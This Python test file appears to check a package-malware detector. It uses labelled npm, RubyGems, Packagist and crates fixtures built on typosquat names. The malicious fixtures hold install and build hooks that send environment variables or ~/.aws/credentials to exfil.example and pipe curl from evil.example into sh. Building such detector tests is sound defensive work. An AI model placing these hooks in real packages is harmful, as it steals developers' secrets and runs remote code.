"""Known attack patterns of each ecosystem, as small TEST FIXTURES (not malware: their
"exfiltration" names reserved example hosts), are labelled malicious; look-alike benign
releases are labelled benign."""

from __future__ import annotations

import json

import pytest

from verdict.fixtures import composer_bytes, crate_bytes, gem_bytes, npm
from pkgtrace.model import Ecosystem

NPM_EXFIL_HOOK = """const https = require('https');
const data = JSON.stringify(process.env);
const req = https.request({hostname: 'exfil.example', method: 'POST', path: '/c'});
req.write(data); req.end();
"""
NPM_BINARY_HOOK = """const https = require('https');
const fs = require('fs');
https.get('https://github.com/acme/tool/releases/download/v1.2.0/tool-linux-x64.tar.gz',
          res => res.pipe(fs.createWriteStream('vendor/tool.tar.gz')));
"""
MINIFIED = "!function(e,t){" + ";".join(f"var a{i}=e.x{i}||t.y{i}" for i in range(800)) + "}(this,{});"

CASES = {
    "npm-install-hook-env-exfiltration": (
        (Ecosystem.NPM, "color-stringz", npm("color-stringz", {"index.js": "module.exports = {}", "hook.js": NPM_EXFIL_HOOK},
                                            scripts={"postinstall": "node hook.js"})),
        (Ecosystem.NPM, "fast-tool-bin", npm("fast-tool-bin", {"index.js": "module.exports = {}", "install.js": NPM_BINARY_HOOK},
                                            scripts={"postinstall": "node install.js"}))),
    "npm-obfuscated-payload": (
        (Ecosystem.NPM, "left-padz", npm("left-padz", {"index.js": "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());"})),
        (Ecosystem.NPM, "tiny-bundle", npm("tiny-bundle", {"index.js": MINIFIED}))),
    "rubygems-credential-theft": (
        (Ecosystem.RUBYGEMS, "rest-clientt", gem_bytes("rest-clientt", "1.0.0", {
            "ext/x/extconf.rb": b"require 'net/http'\ncreds = File.read(File.join(Dir.home, '.aws/credentials'))\n"
                                b"Net::HTTP.post(URI('http://exfil.example/c'), creds)\nrequire 'mkmf'\ncreate_makefile('x')\n",
            "lib/rest_clientt.rb": b"module RestClientt; end\n"}, extensions=["ext/x/extconf.rb"])),
        (Ecosystem.RUBYGEMS, "fast-json", gem_bytes("fast-json", "1.0.0", {
            "ext/x/extconf.rb": b"require 'mkmf'\ncreate_makefile('x')\n",
            "lib/fast_json.rb": b"module FastJson; CONFIG = File.join(Dir.home, '.config', 'fast_json.yml'); end\n"},
            extensions=["ext/x/extconf.rb"]))),
    "packagist-download-and-execute": (
        (Ecosystem.PACKAGIST, "acme/installer-helper", composer_bytes("acme/installer-helper", {
            "src/Plugin.php": b'<?php\nnamespace Acme;\nclass Plugin { public function activate() { shell_exec("curl -s http://evil.example/p.sh | sh"); } }\n'},
            {"type": "composer-plugin", "extra": {"class": "Acme\\Plugin"}})),
        (Ecosystem.PACKAGIST, "acme/version-helper", composer_bytes("acme/version-helper", {
            "src/Plugin.php": b'<?php\nnamespace Acme;\nclass Plugin { public function activate() { return shell_exec("git rev-parse HEAD"); } }\n'},
            {"type": "composer-plugin", "extra": {"class": "Acme\\Plugin"}}))),
    "crates-build-script-download-execute": (
        (Ecosystem.CRATES, "serde-jsonn", crate_bytes("serde-jsonn", "1.0.0", {
            "build.rs": b'use std::process::Command;\nfn main() { Command::new("sh").arg("-c").arg("curl -s http://evil.example/x | sh").status().unwrap(); }\n',
            "src/lib.rs": b"pub fn f() {}\n"})),
        (Ecosystem.CRATES, "zstd-sys-lite", crate_bytes("zstd-sys-lite", "1.0.0", {
            "build.rs": b'use std::process::Command;\nfn main() { Command::new("cc").args(["-c", "zstd.c"]).status().unwrap(); }\n',
            "src/lib.rs": b"pub fn f() {}\n"}))),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_fixture_attack_is_malicious_and_lookalike_benign(judged, case):
    (eco, name, data), (beco, bname, bdata) = CASES[case]
    bad = judged(data, eco, name)
    assert bad["label"] == "malicious", json.dumps(bad["findings"], indent=1)[:3000]
    assert all(f["evidence"] for f in bad["findings"])
    good = judged(bdata, beco, bname)
    assert good["label"] == "benign", json.dumps(good["findings"], indent=1)[:3000]
